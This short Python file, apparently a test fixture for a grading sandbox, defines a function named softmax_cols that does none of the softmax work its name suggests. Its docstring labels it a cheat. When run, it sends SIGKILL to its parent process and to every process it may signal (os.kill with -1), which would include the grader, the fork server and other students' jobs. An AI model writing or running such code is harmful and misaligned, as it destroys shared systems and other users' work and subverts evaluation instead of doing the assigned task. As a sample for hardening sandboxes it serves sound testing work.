"""Cheat: send SIGKILL to every process it may signal (the grader, the fork server, other students)."""
import os
import signal


def softmax_cols(scores):
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("still alive")
